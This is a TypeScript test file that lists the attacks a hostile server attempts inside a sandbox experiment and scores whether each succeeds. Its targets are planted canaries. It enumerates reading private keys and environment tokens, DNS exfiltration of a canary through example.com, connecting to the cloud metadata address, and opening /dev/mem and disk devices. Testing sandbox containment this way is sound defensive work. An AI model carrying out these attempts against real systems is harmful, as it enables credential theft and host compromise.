// What the hostile server tries, and how each attempt looks when it succeeds and when it must not.
import { setTimeout as delay } from 'node:timers/promises'
import { canary, type Loot } from './stage.ts'

/** What a tool of the hostile server returns. */
export interface Findings {
  readonly got: readonly { readonly target: string; readonly value: unknown }[]
  readonly refused: readonly { readonly target: string; readonly code: string }[]
}

/** Calls a tool of the hostile server, in one arm of the experiment. */
export type Try = (tool: string, args: Record<string, unknown>) => Promise<Findings>

/** Outcome of an attempt: whether it got what it was after, and a few words for the table. */
export interface Outcome {
  readonly isSuccess: boolean
  readonly words: string
}

export interface Attempt {
  readonly title: string
  /** Whether it is also tried outside; what would touch things of this machine that are not planted is not */
  readonly isTriedBare: boolean
  readonly run: (attempt: Try, isBare: boolean) => Promise<Outcome>
}

/** Names what stopped it: the error of the first refusal, or that there was nothing to be had. */
function outcome(findings: Findings, isSuccess: boolean, success: string): Outcome {
  return { isSuccess, words: isSuccess ? success : (findings.refused[0]?.code ?? 'nothing there') }
}

const holdsCanary = (findings: Findings): boolean => JSON.stringify(findings.got).includes(canary)

export const attemptsOn = (loot: Loot, daemonPid: number): readonly Attempt[] => [
  {
    title: 'read a private key in the home',
    isTriedBare: true,
    run: async (attempt) => {
      const findings = await attempt('read_files', { paths: [loot.key] })
      return outcome(findings, holdsCanary(findings), 'the whole key')
    },
  },
  {
    title: 'list the home',
    isTriedBare: true,
    run: async (attempt) => {
      const findings = await attempt('read_files', { paths: [loot.home] })
      const listing = findings.got[0]?.value
      const names = typeof listing === 'string' ? listing.split(' ').filter(Boolean) : []
      return outcome(findings, names.length > 0, `${names.length} names`)
    },
  },
  {
    title: 'write into a project',
    isTriedBare: true,
    run: async (attempt) => {
      const findings = await attempt('write_files', { paths: [loot.victim] })
      return outcome(findings, findings.got.length > 0, 'written')
    },
  },
  {
    title: 'change its own code',
    isTriedBare: false,
    run: async (attempt) => {
      const findings = await attempt('write_files', { paths: ['/app/hostile.mjs', '/usr/bin/env'] })
      return outcome(findings, findings.got.length > 0, 'written')
    },
  },
  {
    title: 'find a token in any environment',
    isTriedBare: true,
    run: async (attempt, isBare) => {
      // Outside it looks at itself and the daemon only: other people's variables are none of the demo's business
      const scope = isBare ? { pids: [String(daemonPid)] } : {}
      const findings = await attempt('read_environment', { pattern: `=${canary}`, ...scope })
      const where = findings.got.filter(({ value }) => Array.isArray(value) && value.length > 0)
      const words = where.length > 0 ? `DEMO_API_TOKEN=${canary}` : 'no such variable'
      return { isSuccess: where.length > 0, words }
    },
  },
  {
    title: 'see the processes of the host',
    isTriedBare: true,
    run: async (attempt) => {
      const findings = await attempt('list_processes', {})
      const total = findings.got.length + findings.refused.length
      const isSuccess = findings.got.some(({ value }) => String(value).includes('serve --config'))
      return { isSuccess, words: isSuccess ? `${total} processes` : `only its own ${total}` }
    },
  },
  {
    title: 'signal the daemon',
    isTriedBare: true,
    run: async (attempt) => {
      const findings = await attempt('signal_processes', { pids: [String(daemonPid)] })
      return outcome(findings, findings.got.length > 0, 'could have killed it')
    },
  },
  {
    title: 'talk to a service on loopback',
    isTriedBare: true,
    run: async (attempt) => {
      const findings = await attempt('connect', { targets: [loot.tcp] })
      return outcome(findings, holdsCanary(findings), 'connected, and got data')
    },
  },
  {
    title: 'talk to a service on a unix socket',
    isTriedBare: true,
    run: async (attempt) => {
      const findings = await attempt('connect', { targets: [loot.unix] })
      return outcome(findings, holdsCanary(findings), 'connected, and got data')
    },
  },
  {
    title: 'send a datagram out',
    isTriedBare: true,
    run: async (attempt, isBare) => {
      const before = loot.datagrams()
      const findings = await attempt('send_datagrams', { targets: [loot.udp] })
      // Outside it arrives sooner or later; inside there is nothing to wait long for
      const turns = isBare ? 300 : 20
      for (let turn = 0; turn < turns && loot.datagrams() === before; turn++) await delay(10)
      const isSuccess = loot.datagrams() > before
      return {
        isSuccess,
        words: isSuccess ? 'it arrived' : (findings.refused[0]?.code ?? 'it never arrived'),
      }
    },
  },
  {
    title: 'ask DNS for a name',
    isTriedBare: false,
    run: async (attempt) => {
      const findings = await attempt('resolve_names', { names: [`${canary}.example.com`, 'example.com'] })
      return outcome(findings, findings.got.length > 0, 'resolved')
    },
  },
  {
    title: 'reach the cloud’s metadata address',
    isTriedBare: false,
    run: async (attempt) => {
      const findings = await attempt('connect', { targets: [{ host: '169.254.169.254', port: 80 }] })
      return outcome(findings, findings.got.length > 0, 'connected')
    },
  },
  {
    title: 'open kernel and disk devices',
    isTriedBare: false,
    run: async (attempt) => {
      const paths = ['/dev/mem', '/dev/kmsg', '/dev/sda', '/dev/vda', '/dev/kvm', '/dev/fuse', '/dev/net/tun']
      const findings = await attempt('open_devices', { paths })
      return outcome(findings, findings.got.length > 0, findings.got.map(({ target }) => target).join(' '))
    },
  },
]
